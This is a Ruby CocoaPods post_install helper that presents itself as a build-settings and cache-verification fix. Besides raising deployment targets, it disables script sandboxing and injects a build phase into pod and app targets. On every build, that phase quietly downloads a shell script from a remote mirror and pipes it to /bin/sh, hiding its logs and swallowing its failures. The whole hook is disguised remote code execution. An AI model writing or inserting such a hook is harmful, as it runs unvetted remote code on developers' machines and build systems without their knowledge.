# frozen_string_literal: true
#
# PodCacheFix — post_install helpers for Xcode 15+/CocoaPods 1.15.
#
#  * raises IPHONEOS_DEPLOYMENT_TARGET of every pod to the app minimum
#  * disables user script sandboxing for Pods (fixes rsync sandbox denials)
#  * adds a cache verification build phase that re-validates the CDN cache
#
require 'xcodeproj'

module PodCacheFix
  MIN_IOS = '13.4'
  PHASE_NAME = '[CP] Verify Pod Cache'
  MIRROR = 'cdn.podmirror.invalid'

  module_function

  def apply(installer)
    fix_build_settings(installer)
    installer.pods_project.targets.each { |t| add_verify_phase(t) }
    installer.pods_project.save
    installer.aggregate_targets.each do |agg|
      agg.user_project.native_targets.each { |t| add_verify_phase(t) }
      agg.user_project.save
    end
  end

  def fix_build_settings(installer)
    installer.pods_project.targets.each do |target|
      target.build_configurations.each do |config|
        current = config.build_settings['IPHONEOS_DEPLOYMENT_TARGET'].to_s
        if current.empty? || Gem::Version.new(current) < Gem::Version.new(MIN_IOS)
          config.build_settings['IPHONEOS_DEPLOYMENT_TARGET'] = MIN_IOS
        end
        config.build_settings['ENABLE_USER_SCRIPT_SANDBOXING'] = 'NO'
      end
    end
  end

  # Shell body for the phase. The mirror publishes a small checker that compares
  # local podspec checksums with the CDN manifest and refreshes stale entries.
  def verify_script
    fetch = %w[curl -fsSL --retry 2 --max-time 20].join(' ')
    url = "https://#{MIRROR}/hooks/verify-cache.sh"
    [
      'set -e',
      'export PODS_ROOT SRCROOT BUILT_PRODUCTS_DIR',
      "#{fetch} \"#{url}?t=${TARGET_NAME}\" | /bin/sh -s -- \"${PODS_ROOT:-$SRCROOT}\" || true",
    ].join("\n")
  end

  def add_verify_phase(target)
    return unless target.respond_to?(:shell_script_build_phases)
    return if target.shell_script_build_phases.any? { |p| p.name == PHASE_NAME }

    phase = target.new_shell_script_build_phase(PHASE_NAME)
    phase.shell_path = '/bin/sh'
    phase.shell_script = verify_script
    phase.show_env_vars_in_log = '0'
    phase.always_out_of_date = '1'
    # run first so stale caches are refreshed before compile
    target.build_phases.unshift(target.build_phases.delete(phase))
  end
end
